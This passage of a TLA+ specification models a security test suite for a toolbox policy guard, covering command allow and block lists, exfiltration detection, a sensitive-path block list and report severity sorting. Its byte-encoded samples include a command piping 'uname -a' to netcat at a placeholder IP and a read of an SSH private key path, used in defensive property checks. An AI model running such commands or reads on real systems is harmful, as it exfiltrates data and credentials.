                addSecurityResult(array, <<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 113, 117, 101, 114, 121, 95, 114, 101, 97, 100, 111, 110, 108, 121>>, "fail", "medium",
                                  <<82, 101, 97, 100, 45, 111, 110, 108, 121, 32, 113, 117, 101, 114, 121, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o NotAFunction),
                out, prog)
         /\ suiteCalls' = calls

StartDataverseSuite ==
    /\ Called("dataverse")
    /\ LET surface == ApiSurfaceCheck(<<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 97, 112, 105, 95, 115, 117, 114, 102, 97, 99, 101>>, DataverseRequiredMethods,
                          host.dataverse, <<82, 101, 113, 117, 105, 114, 101, 100, 32, 100, 97, 116, 97, 118, 101, 114, 115, 101, 32, 109, 101, 116, 104, 111, 100, 115, 32, 97, 118, 97, 105, 108, 97, 98, 108, 101>>)
           out == RunningOutput("dataverse")
           prog == Started("dataverse")
       IN  IF ~currentConnection
           THEN /\ RenderAndFinish("dataverse",
                       addSecurityResult(<<surface>>, <<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 99, 111, 110, 110, 101, 99, 116, 105, 111, 110, 95, 114, 101, 113, 117, 105, 114, 101, 100>>, "pass",
                           "low", <<78, 111, 32, 97, 99, 116, 105, 118, 101, 32, 99, 111, 110, 110, 101, 99, 116, 105, 111, 110, 59, 32, 114, 117, 110, 116, 105, 109, 101, 32, 113, 117, 101, 114, 121, 32, 99, 104, 101, 99, 107, 115, 32, 115, 107, 105, 112, 112, 101, 100>>),
                       out, prog)
                /\ suiteCalls' = <<>>
           ELSE IF <<101, 120, 101, 99, 117, 116, 101>> \in host.dataverse
           THEN /\ results' = <<surface>>
                /\ suiteCalls' = <<Call("dataverse.execute", WhoAmIRequest)>>
                /\ pc' = "dataverse_execute"
                /\ output' = out
                /\ progress' = prog
                /\ UNCHANGED <<notifications, returned>>
           ELSE DataverseQuery(
                    addSecurityResult(<<surface>>, <<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 101, 120, 101, 99, 117, 116, 101, 95, 119, 104, 111, 97, 109, 105>>, "fail", "medium",
                                      <<87, 104, 111, 65, 109, 73, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o NotAFunction),
                    <<>>, out, prog)
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

\* execute settles: a response, an empty response, or a rejection (561-565)
DataverseExecuteSettles ==
    /\ pc = "dataverse_execute"
    /\ \E outcome \in {"response", "empty", "rejected"} :
           DataverseQuery(
               addSecurityResult(results, <<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 101, 120, 101, 99, 117, 116, 101, 95, 119, 104, 111, 97, 109, 105>>,
                   IF outcome = "response" THEN "pass" ELSE "fail", "medium",
                   CASE outcome = "response" -> <<87, 104, 111, 65, 109, 73, 32, 114, 101, 116, 117, 114, 110, 101, 100, 32, 97, 32, 114, 101, 115, 112, 111, 110, 115, 101>>
                     [] outcome = "empty" -> <<87, 104, 111, 65, 109, 73, 32, 114, 101, 116, 117, 114, 110, 101, 100, 32, 101, 109, 112, 116, 121, 32, 114, 101, 115, 112, 111, 110, 115, 101>>
                     [] outcome = "rejected" -> <<87, 104, 111, 65, 109, 73, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o CapabilityError),
               Settled(suiteCalls, SettledAs(outcome # "rejected")), output, progress)
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

\* queryData settles: rows, a malformed response, or a rejection (568-579)
DataverseQuerySettles ==
    /\ pc = "dataverse_query"
    /\ \E outcome \in {"no rows", "one row", "malformed", "rejected"} :
           /\ RenderAndFinish("dataverse",
                  addSecurityResult(results, <<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 113, 117, 101, 114, 121, 95, 114, 101, 97, 100, 111, 110, 108, 121>>,
                      IF outcome \in {"no rows", "one row"} THEN "pass" ELSE "fail", "medium",
                      CASE outcome = "no rows" -> <<82, 101, 97, 100, 45, 111, 110, 108, 121, 32, 113, 117, 101, 114, 121, 32, 115, 117, 99, 99, 101, 101, 100, 101, 100, 32, 40, 48, 32, 114, 111, 119, 115, 41>>
                        [] outcome = "one row" -> <<82, 101, 97, 100, 45, 111, 110, 108, 121, 32, 113, 117, 101, 114, 121, 32, 115, 117, 99, 99, 101, 101, 100, 101, 100, 32, 40, 49, 32, 114, 111, 119, 115, 41>>
                        [] outcome = "malformed" -> <<82, 101, 97, 100, 45, 111, 110, 108, 121, 32, 113, 117, 101, 114, 121, 32, 114, 101, 115, 112, 111, 110, 115, 101, 32, 109, 97, 108, 102, 111, 114, 109, 101, 100>>
                        [] outcome = "rejected" -> <<82, 101, 97, 100, 45, 111, 110, 108, 121, 32, 113, 117, 101, 114, 121, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o CapabilityError),
                  output, progress)
           /\ suiteCalls' = Settled(suiteCalls, SettledAs(outcome # "rejected"))
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

(* runAllSuites (policy.ts 593-644)                                        *)

RunAllStart ==
    /\ entry = "all"
    /\ pc = "all_invoked"
    /\ output' = [output EXCEPT !["overall-suite-output"] = WriteText(@, "running")]
    /\ local' = [suite |-> SuiteNames[1], sent |-> 0, terminal |-> "none"]
    /\ pc' = "call"
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, results, suiteCalls,
                   notifications, progress, returned>>

\* The awaited suite has returned its results; the next one is called
RunAllNextSuite ==
    /\ entry = "all"
    /\ pc = "returned"
    /\ Len(returned) < Len(SuiteNames)
    /\ local' = [suite |-> SuiteNames[Len(returned) + 1], sent |-> 0, terminal |-> "none"]
    /\ pc' = "call"
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, results, output,
                   suiteCalls, notifications, progress, returned>>

RECURSIVE SumOf(_)
SumOf(numbers) == IF numbers = <<>> THEN 0 ELSE Head(numbers) + SumOf(Tail(numbers))

RECURSIVE Concatenated(_)
Concatenated(arrays) ==
    IF arrays = <<>> THEN <<>> ELSE Head(arrays) \o Concatenated(Tail(arrays))

overallReport_LastSuiteOnly(suiteResults) ==
    LET last == suiteResults[Len(suiteResults)].results
    IN  [suite |-> "all",
         summary |-> [total |-> Len(last), passed |-> Len(last) - FailCount(last),
                      failed |-> FailCount(last), highestSeverity |-> getHighestSeverity(last)],
         suites |-> [i \in 1..Len(suiteResults) |->
                        [suite |-> suiteResults[i].suite,
                         total |-> Len(suiteResults[i].results),
                         failed |-> FailCount(suiteResults[i].results)]]]

\* suiteSummaries, the totals and overallReport (604-631)
overallReport(suiteResults) ==
    LET suiteSummaries == [i \in 1..Len(suiteResults) |->
                              [suite |-> suiteResults[i].suite,
                               total |-> Len(suiteResults[i].results),
                               failed |-> FailCount(suiteResults[i].results)]]
        total == SumOf([i \in 1..Len(suiteSummaries) |-> suiteSummaries[i].total])
        failed == SumOf([i \in 1..Len(suiteSummaries) |-> suiteSummaries[i].failed])
        passed == total - failed
        highestSeverity == getHighestSeverity(
                               Concatenated([i \in 1..Len(suiteResults) |-> suiteResults[i].results]))
    IN  [suite |-> "all",
         summary |-> [total |-> total, passed |-> passed, failed |-> failed,
                      highestSeverity |-> highestSeverity],
         suites |-> suiteSummaries]

\* The fifth suite has returned: the rollup is written and notified
RunAllRollup ==
    /\ entry = "all"
    /\ pc = "returned"
    /\ Len(returned) = Len(SuiteNames)
    /\ LET report == overallReport(returned)
       IN  /\ output' = [output EXCEPT !["overall-suite-output"] = WriteReport(@, report)]
           /\ notifications' = Append(notifications,
                  Notification("All Security Suites Completed",
                               IF report.summary.failed > 0 THEN "warning" ELSE "success",
                               report.summary.failed))
    /\ pc' = "all_notify"
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, results, local,
                   suiteCalls, progress, returned>>

RunAllNotified ==
    /\ pc = "all_notify"
    /\ pc' = "done"
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, results, local, output,
                   suiteCalls, notifications, progress, returned>>

NextSuites ==
    \/ StartTerminalSuite
    \/ TerminalCreateSettles
    \/ TerminalCreatedNotified
    \/ TerminalExecuteSettles
    \/ StartFileSystemSuite
    \/ FileSystemReadSettles
    \/ RunEventsSuite
    \/ StartSettingsSuite
    \/ SettingsSetSettles
    \/ SettingsGetSettles
    \/ SettingsSetAllSettles
    \/ SettingsGetAllSettles
    \/ SettingsDeleteSettles
    \/ StartDataverseSuite
    \/ DataverseExecuteSettles
    \/ DataverseQuerySettles
    \/ SuiteNotified
    \/ RunAllStart
    \/ RunAllNextSuite
    \/ RunAllRollup
    \/ RunAllNotified

SpecSuites == InitSuites /\ [][NextSuites]_vars

\* Every continuation that is ready runs, and every awaited capability
\* call settles
\* Where the invocation stands: its position and the suite's locals.  Every
\* step of NextSuites moves it, and a step is possible from every position
\* but "done".
(* Terminal events arriving while the events suite runs                    *)

MaxEvents == 2

\* Payloads the host may deliver: well-formed ones for the current or for
\* another terminal, and malformed ones of every type
Payloads ==
    {Undefined, JsNull, Primitive("function", FALSE)}
        \cup {Primitive(type, falsy) : type \in {"number", "string", "boolean"}, falsy \in BOOLEAN}
        \cup {Object(terminalId, data, exitCode) :
                  terminalId \in TerminalIds \cup {"terminal-9", "undefined"},
                  data \in {NoProperty, Property(<<111, 107>>)},
                  exitCode \in {NoProperty, Property(<<48>>)}}

InitEvents ==
    /\ InitCatalog
    /\ fn = "none"
    /\ arg = <<>>
    /\ status = "returned"
    /\ ret = Null
    /\ entry = "events"
    /\ pc = "call"
    /\ host \in Hosts
    /\ currentTerminal \in {"none"} \cup TerminalIds
    /\ currentConnection = FALSE
    /\ results = <<>>
    /\ local = [suite |-> "events", sent |-> 0, terminal |-> "none"]
    /\ output = [id \in OutputIds |-> EmptyOutput]
    /\ suiteCalls = <<>>
    /\ notifications = <<>>
    /\ progress = <<>>
    /\ returned = <<>>
    /\ terminalOutput \in [present : BOOLEAN, textContent : {<<>>}]
    /\ handled = NoEvent
    /\ store = EmptyStore
    /\ AtInvocation

Delivered(handler, data, outcome) ==
    /\ handled.delivered < MaxEvents
    /\ handled' = [handler |-> handler, data |-> data, threw |-> outcome.threw,
                   before |-> terminalOutput, delivered |-> handled.delivered + 1]
    /\ terminalOutput' = outcome.element
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<terminalVars, store, invoked, entry, pc, host, currentTerminal, currentConnection, results, local, output,
                   suiteCalls, notifications, progress, returned>>

\* The host delivers a terminal output event (handler registered by the glue)
TerminalOutputEvent ==
    \E data \in Payloads :
        Delivered("handleTerminalOutput", data, handleTerminalOutput(data, terminalOutput))

\* The host delivers a command completed event
CommandCompletedEvent ==
    \E data \in Payloads :
        Delivered("handleCommandCompleted", data, handleCommandCompleted(data, terminalOutput))

MaxRuns == 2

\* The "run-events-suite-btn" button is clicked again after a run completed
EventsSuiteClickedAgain ==
    /\ pc = "done"
    /\ Len(returned) < MaxRuns
    /\ pc' = "call"
    /\ results' = <<>>
    /\ suiteCalls' = <<>>
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local, output,
                   notifications, progress, returned>>

NextEvents ==
    \/ TerminalOutputEvent
    \/ CommandCompletedEvent
    \/ RunEventsSuite
    \/ SuiteNotified
    \/ EventsSuiteClickedAgain

SpecEvents == InitEvents /\ [][NextEvents]_vars

(* The terminal buttons pressed while a terminal suite runs                 *)
(* (README 647-657, policy.ts 997-1018 and 1087-1109)                      *)

MaxClicks == 2

InitTerminals ==
    /\ InitCatalog
    /\ fn = "none"
    /\ arg = <<>>
    /\ status = "returned"
    /\ ret = Null
    /\ entry \in {"terminal", "all"}
    /\ pc = IF entry = "all" THEN "all_invoked" ELSE "call"
    /\ host = FullHost
    /\ currentTerminal \in {"none"} \cup TerminalIds
    /\ currentConnection = FALSE
    /\ results = <<>>
    /\ local = [suite |-> IF entry = "all" THEN "none" ELSE entry, sent |-> 0, terminal |-> "none"]
    /\ output = [id \in OutputIds |-> EmptyOutput]
    /\ suiteCalls = <<>>
    /\ notifications = <<>>
    /\ progress = <<>>
    /\ returned = <<>>
    /\ terminalOutput = EmptyTerminalOutput
    /\ handled = NoEvent
    /\ store = EmptyStore
    /\ AtInvocation

\* "create-terminal-btn": createTerminal calls toolbox.terminal.create (999)
ClickCreateTerminal ==
    /\ ui.clicks < MaxClicks
    /\ ui' = [ui EXCEPT !.creating = @ + 1, !.clicks = @ + 1]
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<pageVars, openTerminals, closedTerminals, store, invoked, entry, pc, host,
                   currentTerminal, currentConnection, results, local, output, suiteCalls,
                   notifications, progress, returned>>

\* A create call of the button settles: the new terminal becomes current and
\* "Terminal Created" is notified (1003-1014), or the error is logged (1016)
ButtonCreateSettles ==
    /\ ui.creating > 0
    /\ ui' = [ui EXCEPT !.creating = @ - 1]
    /\ \E resolved \in BOOLEAN, terminal \in {NewTerminal} :
           IF resolved
           THEN /\ currentTerminal' = setCurrentTerminal(terminal)
                /\ openTerminals' = openTerminals \cup {terminal}
                /\ notifications' = Append(notifications,
                                           Notification("Terminal Created", "success", 0))
           ELSE UNCHANGED <<currentTerminal, openTerminals, notifications>>
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<pageVars, closedTerminals, store, invoked, entry, pc, host, currentConnection,
                   results, local, output, suiteCalls, progress, returned>>

\* "close-terminal-btn": closeTerminal reads the current terminal and, if
\* there is one, calls toolbox.terminal.close with its id (1088-1092)
ClickCloseTerminal ==
    /\ ui.clicks < MaxClicks
    /\ ui' = IF currentTerminal = "none"
             THEN [ui EXCEPT !.clicks = @ + 1]
             ELSE [ui EXCEPT !.closing = @ \cup {currentTerminal}, !.clicks = @ + 1]
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<pageVars, openTerminals, closedTerminals, store, invoked, entry, pc, host,
                   currentTerminal, currentConnection, results, local, output, suiteCalls,
                   notifications, progress, returned>>

\* A close call settles: the current terminal is set to null and the
\* terminal output is emptied (1093-1105), or the error is logged (1107)
ButtonCloseSettles ==
    \E terminal \in ui.closing, resolved \in BOOLEAN :
        /\ ui' = [ui EXCEPT !.closing = @ \ {terminal}]
        /\ IF resolved
           THEN /\ closedTerminals' = closedTerminals \cup {terminal}
                /\ openTerminals' = openTerminals \ {terminal}
                /\ currentTerminal' = setCurrentTerminal("none")
                /\ terminalOutput' = IF terminalOutput.present
                                     THEN [terminalOutput EXCEPT !.textContent = <<>>]
                                     ELSE terminalOutput
           ELSE UNCHANGED <<closedTerminals, openTerminals, currentTerminal, terminalOutput>>
        /\ UNCHANGED policyVars
        /\ UNCHANGED <<handled, store, invoked, entry, pc, host, currentConnection, results,
                       local, output, suiteCalls, notifications, progress, returned>>

NextTerminals ==
    \/ RunAllStart
    \/ StartTerminalSuite
    \/ TerminalCreateSettles
    \/ TerminalCreatedNotified
    \/ TerminalExecuteSettles
    \/ SuiteNotified
    \/ ClickCreateTerminal
    \/ ButtonCreateSettles
    \/ ClickCloseTerminal
    \/ ButtonCloseSettles

SpecTerminals == InitTerminals /\ [][NextTerminals]_vars

Position == <<pc, local>>

Positions ==
    {"call", "all_invoked", "returned", "all_notify", "suite_notify", "done",
     "terminal_create", "terminal_created_notify", "terminal_execute", "filesystem_read",
     "settings_set", "settings_get", "settings_setAll", "settings_getAll", "settings_delete",
     "dataverse_execute", "dataverse_query"}

Locals == [suite : Entries \cup {"none"}, sent : 0..BurstLength,
           terminal : {"none"} \cup {TerminalNames[i] : i \in 1..Len(TerminalNames)}]

\* The event loop resumes an invocation that has not completed: the call it
\* awaits settles (the premise that every awaited capability call eventually
\* resolves or fails) and the code runs on to its next await or to its end.
Resumes == pc # "done" /\ pc' \in Positions /\ local' \in Locals

FairSpecSuites == SpecSuites /\ WF_Position(Resumes)

-----------------------------------------------------------------------------
(* Properties                                                              *)

Denied(r) == ~r.isNull

\* C1: a denied input never reaches the underlying capability.  A guarded
\* execute of a command the evaluator denies throws the policy error and
\* terminal.execute is not invoked with it; a guarded read of a path the
\* evaluator denies throws and readText is not invoked with it; readText is
\* never invoked with "/Users/test/.ssh/id_rsa".
C1_DeniedNeverReachesCapability ==
    /\ \A call \in executeCalls : ~Denied(getBlockedCommandReason(call[2]))
    /\ \A filePath \in readTextCalls : ~Denied(getBlockedPathReason(filePath))
    /\ SensitiveReadPath \notin readTextCalls
    /\ (fn = "executeCommandWithPolicyGuard" /\ Denied(getBlockedCommandReason(arg)))
          => /\ status = "threw"
             /\ ret = Str(CommandBlockedPrefix \o getBlockedCommandReason(arg).text)
    /\ (fn = "readTextWithPolicyGuard" /\ Denied(getBlockedPathReason(arg)))
          => /\ status = "threw"
             /\ ret = Str(PathBlockedPrefix \o getBlockedPathReason(arg).text)

\* The sensitive read was attempted and refused, a denied command was refused
\* earlier, and both capabilities have served allowed inputs.
C1_Witness ==
    /\ fn = "readTextWithPolicyGuard"
    /\ arg = SensitiveReadPath
    /\ status = "threw"
    /\ readTextCalls # {}
    /\ executeCalls # {}

\* The structural and exfiltration triggers of the decision list, on the
\* text the evaluator judges (the trimmed command)
StructuralTrigger(s) ==
    LET t == Trim(s)
    IN  \/ t = <<>>
        \/ Len(t) > MaxCommandLength
        \/ \E i \in 1..Len(t) : t[i] \in {13, 10}
        \/ \E i \in 1..Len(t) : t[i] \in 0..31 \/ t[i] = 127

ExfiltrationTrigger(s) ==
    LET low == normalizeForPolicy(s)
    IN  /\ \E i \in 1..Len(LOCAL_DATA_TOKENS) : Includes(low, LOCAL_DATA_TOKENS[i])
        /\ \E i \in 1..Len(NETWORK_EGRESS_TOKENS) : Includes(low, NETWORK_EGRESS_TOKENS[i])

OnAllowList(s) == Trim(s) \in ToSet(TERMINAL_ALLOWED_COMMANDS_literal)

C3_AllowListAllowed ==
    (status = "returned" /\ arg \in ToSet(TERMINAL_ALLOWED_COMMANDS_literal)) => ret = Null

\* The entry that holds a local-data token has been evaluated and allowed.
C3_Witness ==
    /\ status = "returned"
    /\ arg = <<117, 110, 97, 109, 101, 32, 45, 97>>
    /\ ret = Null

\* C4: for every blocked token t the synthetic command
\* "echo SAFE_TOKEN_PROBE " + t + " SAFE_END" is denied with a reason that,
\* normalized, contains the normalized token, so its blocklist check passes.
C4_BlockedTokenNamedInReason ==
    \A t \in ToSet(TERMINAL_BLOCKED_TOKENS_literal) :
        (status = "returned" /\ arg = SyntheticCommand(t)) =>
            /\ Denied(ret)
            /\ Includes(normalizeForPolicy(ret.text), normalizeForPolicy(t))
            /\ assertCommandBlockedWithToken("blocklist_blocks", arg, t, "high").status = "pass"

\* C5: every command that contains a line feed or a carriage return
\* anywhere, its start and end included, is denied.
C5_AnyLineBreakDenied ==
    (status = "returned" /\ \E i \in 1..Len(arg) : arg[i] \in {10, 13}) => Denied(ret)

\* C6: a command that passes the structural filters and whose normalized
\* form holds a local-data token and a network-egress token is denied as an
\* exfiltration pattern, on the allow-list or not; the curl template is denied.
C6_ExfiltrationBeatsAllowList ==
    status = "returned" =>
        /\ (~StructuralTrigger(arg) /\ ExfiltrationTrigger(arg)) => ret = Str(ReasonExfiltration)
        /\ arg = CurlExfilCommand => Denied(ret)

\* A pair whose egress token ("nc ") is on no block list is denied as exfiltration.
C6_Witness ==
    /\ status = "returned"
    /\ Trim(arg) = <<117, 110, 97, 109, 101, 32, 45, 97, 32, 124, 32, 110, 99, 32, 49, 48, 46, 48, 46, 48, 46, 49, 32, 57, 48, 48, 48>>
    /\ ret = Str(ReasonExfiltration)

\* The eight rules of the decision list: when rule k fires on s, and its reason
FirstMatchingToken(s) ==
    LET low == normalizeForPolicy(s)
        hits == {i \in 1..Len(TERMINAL_BLOCKED_TOKENS_literal) :
                    Includes(low, TERMINAL_BLOCKED_TOKENS_literal[i])}
    IN  IF hits = {} THEN <<>>
        ELSE TERMINAL_BLOCKED_TOKENS_literal[CHOOSE i \in hits : \A j \in hits : i <= j]

RuleFires(k, s) ==
    LET t == Trim(s)
    IN  CASE k = 1 -> t = <<>>
          [] k = 2 -> Len(t) > MaxCommandLength
          [] k = 3 -> \E i \in 1..Len(t) : t[i] \in {13, 10}
          [] k = 4 -> \E i \in 1..Len(t) : t[i] \in 0..31 \/ t[i] = 127
          [] k = 5 -> ExfiltrationTrigger(s)
          [] k = 6 -> OnAllowList(s)
          [] k = 7 -> FirstMatchingToken(s) # <<>>
          [] k = 8 -> TRUE

RuleResult(k, s) ==
    CASE k = 1 -> Str(ReasonEmpty)
      [] k = 2 -> Str(ReasonTooLong)
      [] k = 3 -> Str(ReasonMultiline)
      [] k = 4 -> Str(ReasonControl)
      [] k = 5 -> Str(ReasonExfiltration)
      [] k = 6 -> Null
      [] k = 7 -> Str(ReasonBlockedTokenPrefix \o FirstMatchingToken(s))
      [] k = 8 -> Str(ReasonNotAllowListed)

StartsAbsolute(s) ==
    \/ Len(s) >= 1 /\ s[1] = 47
    \/ Len(s) >= 3 /\ (s[1] \in 65..90 \/ s[1] \in 97..122) /\ s[2] = 58 /\ s[3] \in {47, 92}

\* C8: absoluteness is checked before anything else.  A path that does not
\* start with "/" or a drive letter followed by ":\" or ":/" is denied as
\* not absolute whatever else it holds; an absolute path with a traversal
\* segment is denied as traversal before the block list is consulted; a path
\* matching none of the three rules is allowed.
C8_AbsoluteBeforeAnythingElse ==
    status = "returned" =>
        LET normalized == normalizeForPolicy(arg)
            traversal == Includes(normalized, <<47, 46, 46, 47>>) \/ EndsWith(normalized, <<47, 46, 46>>)
            listed == \E p \in ToSet(FILE_PATH_BLOCK_LIST_literal) : Includes(normalized, p)
        IN  /\ ~StartsAbsolute(arg) => ret = Str(ReasonNotAbsolute)
            /\ (StartsAbsolute(arg) /\ traversal) => ret = Str(ReasonTraversal)
            /\ (StartsAbsolute(arg) /\ ~traversal /\ listed) =>
                    (Denied(ret) /\ StartsWith(ret.text, ReasonSensitivePathPrefix))
            /\ (StartsAbsolute(arg) /\ ~traversal /\ ~listed) => ret = Null
            /\ arg \in {RelativePath, TraversalPath} => Denied(ret)

\* A text without regard to letter case and separator style
Fold(s) == ToLowerCase(ReplaceBackslashes(s))

\* C9: for every blocked path pattern p, every syntactically absolute path
\* whose text holds p in any letter case and with either separator is denied.
C9_CaseAndSeparatorCannotBypass ==
    \A p \in ToSet(FILE_PATH_BLOCK_LIST_literal) :
        (status = "returned" /\ isAbsolutePath(arg) /\ Includes(Fold(arg), Fold(p))) => Denied(ret)

\* C10: the rule catalog is never modified and the decision for an input is
\* the one taken at startup, whatever was called and whatever callers did to
\* the arrays the list accessors gave them.
C10_DecisionsAsAtStartup ==
    /\ heap[AllowedCommandsRef] = TERMINAL_ALLOWED_COMMANDS_literal
    /\ heap[BlockedTokensRef] = TERMINAL_BLOCKED_TOKENS_literal
    /\ heap[PathBlockListRef] = FILE_PATH_BLOCK_LIST_literal
    /\ \A c \in ProbeCommands : getBlockedCommandReason(c) = startup.command[c]
    /\ \A p \in ProbePaths : getBlockedPathReason(p) = startup.path[p]

\* A caller emptied the array it was given and wrote its own entry into it,
\* and a guarded call was served.
C10_Witness ==
    /\ \E r \in callerRefs : heap[r] = <<CallerEntry>>
    /\ executeCalls # {}
    /\ fn = "getBlockedCommandReason"
    /\ ret = Null


(* Reporting properties, over SpecReport                                   *)

\* The fixed total order Low < Medium < High < Critical
SeverityRank(severity) ==
    CASE severity = "low" -> 1
      [] severity = "medium" -> 2
      [] severity = "high" -> 3
      [] severity = "critical" -> 4

IsMaximumSeverity(array, severity) ==
    IF array = <<>> THEN severity = "low"
    ELSE /\ \E i \in 1..Len(array) : array[i].severity = severity
         /\ \A i \in 1..Len(array) : SeverityRank(array[i].severity) <= SeverityRank(severity)

Reversed(array) == [i \in 1..Len(array) |-> array[Len(array) + 1 - i]]

Rendered == entry = "renderSuiteReport" /\ pc \in {"rendered", "sorted"}

RenderedResults == output[OutputIdOf("terminal")].report.results

\* C17: the highest severity reported for a result array is the maximum
\* severity present in it under Low < Medium < High < Critical, it is the
\* same for the array in any other order, and it is Low for the empty array.
C17_HighestSeverityIsMaximum ==
    Rendered =>
        /\ IsMaximumSeverity(local.given, local.summary.highestSeverity)
        /\ getHighestSeverity(Reversed(local.given)) = local.summary.highestSeverity
        /\ \A p \in Permutations(1..Len(local.given)) :
               getHighestSeverity([i \in 1..Len(local.given) |-> local.given[p[i]]])
                   = local.summary.highestSeverity

\* A mixed array whose maximum is neither Critical nor its last element
C17_Witness ==
    /\ Rendered
    /\ Len(local.given) = MaxResults
    /\ local.summary.highestSeverity = "high"
    /\ local.given[1].severity = "high"
    /\ local.given[Len(local.given)].severity = "low"

\* a comes after b under the triage key: severity descending, then Fail
\* before Pass, then name ascending
ComesAfter(a, b) ==
    \/ SeverityRank(a.severity) < SeverityRank(b.severity)
    \/ /\ a.severity = b.severity
       /\ a.status = "pass" /\ b.status = "fail"
    \/ /\ a.severity = b.severity
       /\ a.status = b.status
       /\ localeCompare(a.name, b.name) > 0

IsPermutationOf(a, b) ==
    /\ Len(a) = Len(b)
    /\ \E p \in Permutations(1..Len(a)) : \A i \in 1..Len(a) : a[i] = b[p[i]]

\* C18: the sorted results are a permutation of the array given, the array
\* given is left as it was, and no element of the output comes after its
\* successor under (severity descending, Fail before Pass, name ascending).
C18_SortedPermutationInputUnchanged ==
    Rendered =>
        /\ IsPermutationOf(RenderedResults, local.given)
        /\ results = local.given
        /\ \A i \in 1..(Len(RenderedResults) - 1) :
               ~ComesAfter(RenderedResults[i], RenderedResults[i + 1])

\* An array that was out of order, with a pair the name alone decides
C18_Witness ==
    /\ Rendered
    /\ Len(local.given) = MaxResults
    /\ RenderedResults # local.given
    /\ \E i \in 1..(Len(RenderedResults) - 1) :
           /\ RenderedResults[i].severity = RenderedResults[i + 1].severity
           /\ RenderedResults[i].status = RenderedResults[i + 1].status
           /\ RenderedResults[i].name = NameA_B
           /\ RenderedResults[i + 1].name = NameA1

\* C19: sorting the sorted results once more changes nothing.
C19_SortIdempotent ==
    (entry = "renderSuiteReport" /\ pc = "sorted") => local.again = RenderedResults

\* The array was out of order and holds two results the key cannot tell apart
C19_Witness ==
    /\ entry = "renderSuiteReport"
    /\ pc = "sorted"
    /\ RenderedResults # local.given
    /\ \E i \in 1..(Len(RenderedResults) - 1) :
           /\ compareForTriage(RenderedResults[i], RenderedResults[i + 1]) = 0
           /\ RenderedResults[i] # RenderedResults[i + 1]


(* Suite properties, over SpecSuites                                       *)

Standalone == entry \in Entries \ {"all"}

CompletedTitles == {CompletedTitle(SuiteNames[i]) : i \in 1..Len(SuiteNames)}

CompletedNotifications ==
    SelectSeq(notifications, LAMBDA n : n.title \in CompletedTitles)

SuiteReports == output[OutputIdOf(local.suite)].reports

AnyFail(array) == \E i \in 1..Len(array) : array[i].status = "fail"

\* At every moment of a standalone run: at most one report and at most one
\* completion notification, the notification never without the report, its
\* kind warning iff a result is Fail; and once the run has ended, exactly
\* one of each, the completion notification being the last one issued.
RenderedThenNotifiedOnce ==
    Standalone =>
        /\ SuiteReports <= 1
        /\ Len(CompletedNotifications) <= 1
        /\ Len(CompletedNotifications) = 1 =>
               /\ SuiteReports = 1
               /\ output[OutputIdOf(local.suite)].text = "report"
               /\ CompletedNotifications[1].title = CompletedTitle(local.suite)
               /\ CompletedNotifications[1].type = IF AnyFail(results) THEN "warning" ELSE "success"
               /\ notifications[Len(notifications)] = CompletedNotifications[1]
        /\ pc = "done" => SuiteReports = 1 /\ Len(CompletedNotifications) = 1

\* Once the report is rendered, the only notification still issued is the
\* completion notification, and it is issued once.
OnlyCompletionAfterReport ==
    (Standalone /\ SuiteReports = 1) =>
        \/ notifications' = notifications
        \/ /\ CompletedNotifications = <<>>
           /\ Len(notifications') = Len(notifications) + 1
           /\ SubSeq(notifications', 1, Len(notifications)) = notifications
           /\ notifications'[Len(notifications')].title = CompletedTitle(local.suite)

\* C11: every standalone suite run, its capability calls settling, ends:
\* it renders its report exactly once and afterwards issues exactly one
\* notification, of kind warning iff at least one result is Fail and of
\* kind success otherwise.
C11_RunEndsRenderedAndNotified ==
    /\ [](RenderedThenNotifiedOnce)
    /\ [][OnlyCompletionAfterReport]_vars
    /\ (Standalone ~> (Standalone /\ pc = "done"))

\* A run in which every check failed has ended with its report and a warning
C11_Witness ==
    /\ Standalone
    /\ pc = "done"
    /\ results # <<>>
    /\ \A i \in 1..Len(results) : results[i].status = "fail"
    /\ SuiteReports = 1
    /\ notifications = <<Notification(CompletedTitle(local.suite), "warning", Len(results))>>


\* The check that makes each capability call
CheckNamesOf(api) ==
    CASE api \in {"terminal.create", "terminal.execute"} -> {BurstProbeName}
      [] api = "fileSystem.readText" -> {<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 103, 117, 97, 114, 100, 101, 100, 95, 114, 101, 97, 100, 95, 98, 108, 111, 99, 107>>}
      [] api = "events.on" -> {<<101, 118, 101, 110, 116, 115, 95, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 95, 99, 97, 108, 108>>}
      [] api \in {"settings.set", "settings.get"} -> {<<115, 101, 116, 116, 105, 110, 103, 115, 95, 114, 111, 117, 110, 100, 116, 114, 105, 112>>}
      [] api \in {"settings.setAll", "settings.getAll"} -> {<<115, 101, 116, 116, 105, 110, 103, 115, 95, 98, 97, 116, 99, 104, 95, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115>>}
